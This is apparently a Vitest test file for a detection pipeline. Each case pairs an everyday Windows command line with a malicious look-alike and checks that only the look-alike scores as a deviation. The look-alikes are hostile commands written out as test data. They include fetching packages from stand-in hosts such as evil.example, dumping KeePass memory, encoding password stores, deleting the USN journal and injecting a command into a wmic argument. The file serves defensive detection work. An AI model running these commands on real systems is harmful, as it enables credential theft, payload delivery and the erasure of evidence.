import { describe, expect, test } from 'vitest'
import { scored } from '@/fixtures/detection/score-lines'
import { exampleSignature } from '@/lib/pipeline/deviation/example-signature'
import { assessRisk } from '@/lib/pipeline/deviation/risk'

const DEVIATION = 4

describe('what everybody does is no deviation by itself, what looks like it is one', () => {
  test.each([
    [
      'Office calls the web through a library of Windows',
      String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" "C:\Windows\System32\WININET.dll",DispatchAPICall 1 ¦ outlook.exe`,
      String.raw`rundll32.exe ¦ "C:\Windows\System32\rundll32.exe" "C:\ProgramData\WININET.dll",DispatchAPICall 1 ¦ outlook.exe`,
    ],
    [
      'an attachment of a kind that has no program',
      String.raw`rundll32.exe ¦ "C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Users\ann\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\AB12\order.edi ¦ outlook.exe`,
      String.raw`rundll32.exe ¦ "C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Users\ann\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\AB12\order.hta ¦ outlook.exe`,
    ],
    [
      'a template repairs its add-in',
      String.raw`regsvr32.exe ¦ regsvr32.exe /s "C:\Program Files\Archive\Template.dll" ¦ winword.exe`,
      String.raw`regsvr32.exe ¦ regsvr32.exe /s "C:\ProgramData\Archive\Template.dll" ¦ winword.exe`,
    ],
    [
      "servicing registers Windows' own provider",
      String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace Root/StandardCimv2 -ProviderName NetTCPIP -Path "C:\Windows\system32\wbem\NetTCPIP.dll" -Impersonation True ¦ tiworker.exe ¦ SYSTEM`,
      String.raw`register-cimprovider.exe ¦ Register-CimProvider.exe -Namespace Root/StandardCimv2 -ProviderName NetTCPIP -Path "C:\Windows\system32\wbem\NetTCPIP.dll" -Impersonation True ¦ cmd.exe ¦ SYSTEM`,
    ],
    [
      "a printer's driver that deployment unpacked",
      String.raw`rundll32.exe ¦ rundll32 printui.dll,PrintUIEntry /if /b "Label1" /f "C:\Windows\Temp\Label\label.inf" /r "IP_192.0.2.30" /m "Label 203dpi" ¦ cmd.exe ¦ SYSTEM`,
      String.raw`rundll32.exe ¦ rundll32 C:\Windows\Temp\Label\printui.dll,PrintUIEntry /if ¦ cmd.exe ¦ SYSTEM`,
    ],
    [
      'Windows installs a device by the driver that it has stored',
      String.raw`rundll32.exe ¦ C:\Windows\system32\rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\Windows\System32\DriverStore\FileRepository\audio.inf_amd64_6ff1a2b3c4d5e6f7\audio.inf ¦ drvinst.exe ¦ SYSTEM`,
      String.raw`rundll32.exe ¦ rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\Users\Public\audio.inf ¦ drvinst.exe ¦ SYSTEM`,
    ],
    [
      'a package installs its service, with the log of the package alone',
      String.raw`installutil.exe ¦ InstallUtil.exe /LogFile= /LogToConsole=false "C:\Program Files\Planner\Service.exe" ¦ msiexec.exe ¦ SYSTEM`,
      String.raw`installutil.exe ¦ InstallUtil.exe /LogFile= /LogToConsole=false "C:\Program Files\Planner\Service.exe" ¦ cmd.exe ¦ SYSTEM`,
    ],
    [
      'a script in the folder beside that of its batch file',
      String.raw`cscript.exe ¦ cscript.exe //nologo ..\bin\query.vbs corp.example ¦ cmd.exe`,
      String.raw`cscript.exe ¦ cscript.exe //nologo ..\..\..\Public\query.jse corp.example ¦ cmd.exe`,
    ],
    [
      "the page of an old program's properties that tries it in another mode",
      String.raw`pcwrun.exe ¦ "C:\Windows\System32\pcwrun.exe" "C:\Legacy\Plant\plant.exe" CompatTab ¦ explorer.exe`,
      String.raw`pcwrun.exe ¦ "C:\Windows\System32\pcwrun.exe" "C:\Legacy\Plant\plant.exe" ¦ explorer.exe`,
    ],
    [
      "a notice that a group policy shows from the domain's share",
      String.raw`mshta.exe ¦ "C:\Windows\System32\mshta.exe" "\\corp\NETLOGON\info\drill.hta" ¦ gpscript.exe`,
      String.raw`mshta.exe ¦ "C:\Windows\System32\mshta.exe" "\\203.0.113.9\info\drill.hta" ¦ gpscript.exe`,
    ],
    [
      'a site is deployed to its server',
      String.raw`msdeploy.exe@C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe ¦ msdeploy.exe -verb:sync -source:contentPath="C:\out\site.zip" -dest:contentPath="Default Web Site/app",ComputerName="https://192.0.2.240:8172/msdeploy.axd",UserName=deploy,Password=x,AuthType=Basic ¦ cmd.exe`,
      String.raw`msdeploy.exe@C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe ¦ msdeploy.exe -verb:sync -source:package="http://evil.example/site.zip" -dest:contentPath="Default Web Site/app" ¦ cmd.exe`,
    ],
    [
      'a product that lies three folders deep is registered',
      String.raw`regsvr32.exe ¦ regsvr32 "D:\Office\PDF Maker\Add-ins\x64\Maker.dll" ¦ cmd.exe`,
      String.raw`regsvr32.exe ¦ regsvr32 "D:\Office\Maker.dll" ¦ cmd.exe`,
    ],
    [
      'a library of a package is registered among sources, and one on top of them',
      String.raw`regsvr32.exe ¦ regsvr32 D:\workspace\app\node_modules\plug\dist\plug.dll /s ¦ cmd.exe`,
      String.raw`regsvr32.exe ¦ regsvr32 D:\workspace\app\plug.dll /s ¦ cmd.exe`,
    ],
    [
      'a developer takes back what was built',
      String.raw`installutil.exe ¦ InstallUtil.exe /u bin\Debug\Mailer.exe ¦ cmd.exe`,
      String.raw`installutil.exe ¦ InstallUtil.exe /u temp\Mailer.exe ¦ cmd.exe`,
    ],
    [
      'a process that hangs is dumped by its number',
      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ cmd.exe',
      'procdump.exe ¦ procdump -accepteula -ma KeePass.exe ¦ cmd.exe',
    ],
    [
      'the same by who sits at the host, and by who does not',
      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ powershell.exe',
      'procdump.exe ¦ procdump -accepteula -ma 6248 ¦ wsmprovhost.exe',
    ],
    [
      'a library is registered from where a guide had it copied to',
      'regsvr32.exe ¦ regsvr32 viewer.ocx ¦ cmd.exe',
      'regsvr32.exe ¦ regsvr32 viewer.ocx ¦ explorer.exe',
    ],
    [
      'what hangs is ended here, and on every host of a list',
      `wmic.exe ¦ wmic process where "name like '%java%'" delete ¦ cmd.exe`,
      `wmic.exe ¦ wmic /node:@hosts.txt /failfast:on process where "CommandLine Like '%sql%'" delete ¦ cmd.exe`,
    ],
    [
      'links to a file are listed',
      String.raw`fsutil.exe ¦ fsutil hardlink list tools\bin\pkg.exe ¦ cmd.exe`,
      'fsutil.exe ¦ fsutil usn deletejournal /D C: ¦ cmd.exe',
    ],
    [
      'what is sent in the background is listed, and disguised',
      'bitsadmin.exe ¦ bitsadmin /list /allusers ¦ -',
      'bitsadmin.exe ¦ bitsadmin /setcustomheaders job User-Agent:curl ¦ -',
    ],
    [
      'a compiler compiles, and writes down passwords',
      'vbc.exe ¦ vbc.exe /t:exe report.vb ¦ -',
      String.raw`vbc.exe ¦ vbc.exe /stext "%TEMP%\holder.txt" ¦ -`,
    ],
    [
      'a script is told its language by its name, and against it',
      String.raw`wscript.exe ¦ wscript.exe "C:\Program Files\Vendor\sync.vbs" //e:vbscript //b ¦ -`,
      String.raw`wscript.exe ¦ wscript.exe "C:\Users\ann\AppData\Local\Temp\ricecake" //e:vbscript //b ¦ -`,
    ],
    [
      'scripts that everybody can read, and that nobody shall',
      'cscript.exe ¦ cscript.exe .\\drop.vbs ¦ -',
      'cscript.exe ¦ cscript.exe .\\drop.vbe ¦ -',
    ],
    [
      'sources among documents, built by the development environment, and by what every Windows has',
      String.raw`msbuild.exe@C:\Program Files (x86)\Microsoft Visual Studio\2019\Community\MSBuild\Current\Bin\amd64\MSBuild.exe ¦ MSBuild.exe "C:\Users\ann\Documents\GitHub\viewer\src\viewer.sln" ¦ cmd.exe`,
      String.raw`msbuild.exe ¦ MSBuild.exe "C:\Users\ann\Documents\GitHub\viewer\src\viewer.sln" ¦ cmd.exe`,
    ],
    [
      'a product of COM is registered where it lies, and something by the same tool that says nothing of it',
      String.raw`regasm.exe ¦ RegAsm.exe /codebase /tlb C:\Files\Service\bin\Wrapper.dll ¦ powershell.exe`,
      String.raw`regasm.exe ¦ RegAsm.exe /U C:\Files\Wrapper.dll ¦ powershell.exe`,
    ],
    [
      'the wizard of networks, as it is and as it fetches',
      'xwizard.exe ¦ xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} ¦ -',
      'xwizard.exe ¦ xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /zhttps://paste.example/raw/a ¦ -',
    ],
    [
      "Windows' pages of settings, opened by Office, and a panel of nobody's",
      'control.exe ¦ control.exe /name Microsoft.Fonts ¦ winword.exe',
      String.raw`control.exe ¦ control.exe C:\ProgramData\fonts.cpl ¦ winword.exe`,
    ],
    [
      'an add-in is started by its template',
      String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Sheets\bridge.dll",StartServer 7 ¦ excel.exe`,
      String.raw`rundll32.exe ¦ rundll32.exe "C:\ProgramData\Sheets\bridge.dll",StartServer 7 ¦ excel.exe`,
    ],
    [
      'an errand on another host by way of a shell, and what only begins like one',
      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force" ¦ -',
      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force & calc" ¦ -',
    ],
    [
      "a page of the developer's own machine, and one of another",
      String.raw`vslaunchbrowser.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe ¦ VSLaunchBrowser.exe msedge https://localhost:44321/ ¦ devenv.exe`,
      String.raw`vslaunchbrowser.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe ¦ VSLaunchBrowser.exe msedge https://localhost.evil.example/ ¦ devenv.exe`,
    ],
    [
      'a library as a service by a program of its own, and by a loader that is none',
      String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Vendor\agent.dll",Run ¦ services.exe ¦ SYSTEM`,
      String.raw`installutil.exe ¦ InstallUtil.exe /ShowCallStack "C:\ProgramData\Vendor\agent.dll" ¦ services.exe ¦ SYSTEM`,
    ],
    [
      'text is encoded, and what shall not look like what it is',
      'certutil.exe ¦ certutil -encode report.txt report.b64 ¦ cmd.exe',
      'certutil.exe ¦ certutil -encode patents.7z patents.txt ¦ cmd.exe',
    ],
    [
      'a session is joined, and one begun with a program of one’s choice',
      String.raw`remote.exe@C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\remote.exe ¦ remote.exe /c PC7 session ¦ cmd.exe`,
      String.raw`remote.exe@C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\remote.exe ¦ remote.exe /s "powershell.exe -nop" session ¦ cmd.exe`,
    ],
    [
      'classes that a product brings, and that lie where anybody can leave them',
      String.raw`mofcomp.exe ¦ mofcomp "C:\Program Files\Vendor\classes.mof" ¦ cmd.exe`,
      String.raw`mofcomp.exe ¦ mofcomp C:\ProgramData\Cache\classes.mof ¦ cmd.exe`,
    ],
    [
      "every edition of SQL Server's PowerShell, and a copy of it",
      String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\160\Tools\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
      String.raw`sqlps.exe@C:\ProgramData\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
    ],
    [
      "Windows' own library as a service, and one of a product's data",
      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\nvsvc.dll,nvsvcStart ¦ services.exe ¦ SYSTEM`,
      String.raw`rundll32.exe ¦ rundll32.exe C:\ProgramData\Vendor\Mon\mon6.dll,Init ¦ services.exe ¦ SYSTEM`,
    ],
    [
      "a library of the organisation's cloud, of a program of this very host, and a stranger's share",
      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie localhost@9843 http://localhost:9843/Desktop.ini ¦ svchost.exe`,
      String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie share-docs.example@SSL https://share-docs.example/DavWWWRoot/ ¦ wscript.exe`,
    ],
    [
      'an archive of logs is packed, and a script among them is run',
      String.raw`makecab.exe ¦ makecab C:\Windows\Logs\CBS\CbsPersist.log C:\Windows\Logs\CBS\CbsPersist.cab ¦ svchost.exe ¦ SYSTEM`,
      String.raw`diskshadow.exe ¦ diskshadow.exe /s C:\Windows\System32\wbem\Logs\a.txt ¦ svchost.exe ¦ SYSTEM`,
    ],
    [
      "the deployment agent runs its policy's script, and one among its logs",
      String.raw`agentexecutor.exe@C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe ¦ AgentExecutor.exe -powershell "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\a.ps1" ¦ svchost.exe ¦ SYSTEM`,
      String.raw`agentexecutor.exe@C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe ¦ AgentExecutor.exe -powershell "C:\ProgramData\Microsoft\IntuneManagementExtension\Logs\a.ps1" ¦ svchost.exe ¦ SYSTEM`,
    ],
    [
      "copies of disks by an administrator's script, and by one that arrived",
      String.raw`diskshadow.exe ¦ diskshadow /s C:\Scripts\vss\snap.dsh /l C:\Scripts\vss\snap.log ¦ cmd.exe`,
      String.raw`diskshadow.exe ¦ diskshadow /s C:\Windows\Temp\snap.dsh ¦ cmd.exe`,
    ],
    [
      'a certificate with its key, and a store of passwords, as text',
      String.raw`certutil.exe ¦ certutil -f -encode D:\Certs\site.pfx D:\Certs\site.b64 ¦ cmd.exe`,
      String.raw`certutil.exe ¦ certutil -f -encode D:\Certs\site.kdbx D:\Certs\site.b64 ¦ cmd.exe`,
    ],
    [
      "what is not code, from the organisation's own server, and what is",
      String.raw`bitsadmin.exe ¦ bitsadmin /transfer v /download /priority normal http://updates.corp.local/app/version.txt C:\ProgramData\App\version.txt ¦ cmd.exe`,
      String.raw`bitsadmin.exe ¦ bitsadmin /transfer v /download /priority normal http://updates.corp.local/app/version.exe C:\ProgramData\App\version.exe ¦ cmd.exe`,
    ],
    [
      "another host is told to take the domain's policies, and all of a list are",
      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force" ¦ cmd.exe',
      'wmic.exe ¦ wmic /node:@hosts.txt process call create "cmd.exe /c gpupdate /force" ¦ cmd.exe',
    ],
    [
      'a connection that deployment left with the product, and one for all users',
      String.raw`cmstp.exe ¦ cmstp.exe /s /su /ns "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
      String.raw`cmstp.exe ¦ cmstp.exe /s /au "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
    ],
    [
      'the checksum of a program beside the caller, and what it loads from there',
      'certutil.exe ¦ certutil -hashfile kubectl.exe SHA256 ¦ cmd.exe',
      'rundll32.exe ¦ rundll32 kubectl.dll,Run ¦ cmd.exe',
    ],
    [
      'what a server is to listen to, and where it comes from',
      'msiexec.exe ¦ msiexec /I webdeploy.msi /passive ADDLOCAL=ALL LISTENURL=http://+:8080/ ¦ -',
      'msiexec.exe ¦ msiexec /I http://203.0.113.9:8080/webdeploy.msi /passive ¦ -',
    ],
  ])('%s', (_, everyday, alike) => {
    const [quiet, loud] = [scored(everyday), scored(alike)]
    expect(quiet.bits, quiet.codes.join(' ')).toBeLessThan(DEVIATION)
    expect(loud.bits, loud.codes.join(' ')).toBeGreaterThanOrEqual(DEVIATION)
  })
})

test('an inventory that an installed agent has a shell take asks less than a person or a script does', () => {
  const asked = (lineage: string, user: string) =>
    assessRisk(
      exampleSignature({
        slug: 'wmic.exe',
        parentName: 'cmd.exe',
        facts: ['asks-for-defence'],
        features: { lineage, user },
      }),
      {},
    ).millibits
  const agent = asked('agent.exe @ program-files > cmd.exe @ system', 'system, system')
  expect(agent).toBeLessThan(DEVIATION * 1000)
  expect(asked('explorer.exe @ windows > cmd.exe @ system', 'standard user, medium')).toBeGreaterThan(agent)
  expect(asked('agent.exe @ program-data > cmd.exe @ system', 'system, system')).toBeGreaterThan(agent)
})

test("what draws on every desktop is told what to draw by the domain's share, less than by any other", () => {
  const own = scored(String.raw`bginfo.exe ¦ Bginfo.exe \\corp\NETLOGON\a.bgi /timer:0 ¦ cmd.exe`)
  const another = scored(String.raw`bginfo.exe ¦ Bginfo.exe \\corp\Public\a.bgi /timer:0 ¦ cmd.exe`)
  expect(own.bits).toBeLessThan(DEVIATION)
  expect(another.bits).toBeGreaterThan(own.bits)
})
